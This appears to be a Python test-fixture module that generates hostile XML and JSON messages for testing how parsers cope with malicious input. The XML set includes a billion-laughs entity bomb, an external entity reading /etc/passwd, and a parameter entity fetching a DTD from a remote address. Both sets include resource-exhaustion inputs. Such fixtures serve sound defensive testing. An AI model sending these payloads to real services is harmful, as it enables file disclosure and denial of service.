"""Messages made to do harm to readers of JSON and XML."""

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>'
QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]>'


def hostile_xml(opened: bytes, field: bytes, closed: bytes) -> tuple[bytes, ...]:
    """Of a message whose `field` stands between what opens and what closes it."""
    start, end = b"<" + field + b">", b"</" + field + b">"
    return (
        LAUGHS + opened + start + b"&j;" + end + closed,
        OUTSIDE + opened + start + b"&a;" + end + closed,
        PARAMETER + opened + closed,
        QUADRATIC + opened + start + b"&a;" * 50_000 + end + closed,
        b"<!DOCTYPE x>" + opened + closed,
        opened + start * 100_000,
        opened + (start + b"1" + end) * 60_000 + closed,
        opened + b"<a/>" * 1_500_000 + closed,
        opened + start + b"a" * 12_000_000 + end + closed,
        opened + start + b"9" * 1_000_000 + end + closed,
        opened + start + b"<![CDATA[" + b"]]>" * 100_000,
        opened + b"<!--" * 500_000,
        opened + b"<?x " * 500_000,
        opened + b"<x " + b" ".join(b'a%d="1"' % n for n in range(200_000)) + b"/>" + closed,
        opened + b"<x " + b" ".join(b'xmlns:a%d="urn:%d"' % (n, n) for n in range(50_000)) + b"/>" + closed,
        opened + (b"<" + b"n" * 40_000 + b">") * 100 + b"<a/>" * 150_000,
        opened + b"<" + b"n" * 40_000 + b">" + b"<a/>" * 150_000 + b"</" + b"n" * 40_000 + b">" + closed,
        opened + start + b"&#0;&#xD800;&#x110000;" + end + closed,
        (b"<?xml version='1.0' encoding='IBM037'?>" + opened).decode().encode("cp037"),
        b"\xff\xfe" + (opened + closed).decode().encode("utf-16-le") * 2,
    )


def hostile_json(opened: bytes, name: bytes, closed: bytes) -> tuple[bytes, ...]:
    """Of a message that opens with some members, whose member `name` follows."""
    member = b', "' + name + b'": '
    return (
        opened + member + b"NaN" + closed,
        opened + member + b"-Infinity" + closed,
        opened + member + b"1e999" + closed,
        opened + member + b"9" * 1_000_000 + closed,
        opened + member + b"0." + b"9" * 1_000_000 + closed,
        opened + member + b"[" * 500_000,
        opened + member + b'{"a":' * 100_000,
        opened + member + b"[" + b"[]," * 2_000_000 + b"[]]" + closed,
        opened + member + b'"' + b"a" * 20_000_000 + b'"' + closed,
        opened + member + b'"' + b"\\u0000" * 100_000 + b'"' + closed,
        opened + member + b'"\\ud800 half a pair \\udc00"' + closed,
        opened + member + b"1" + member + b"2" + closed,
        opened + (member + b"1") * 100_000 + closed,
        opened + b"".join(b', "x%d": 1' % n for n in range(300_000)) + closed,
        opened + member + b"'single'" + closed,
        opened + member + b"true" + closed,
        opened + member + b"[1, [2, [3]]]" + closed,
        opened + member + b'"9999-12-31T23:59:59.999999999999999+99:99[Mars/Olympus]"' + closed,
        b"\xef\xbb\xbf" * 3 + opened + closed,
        opened * 2,
    )
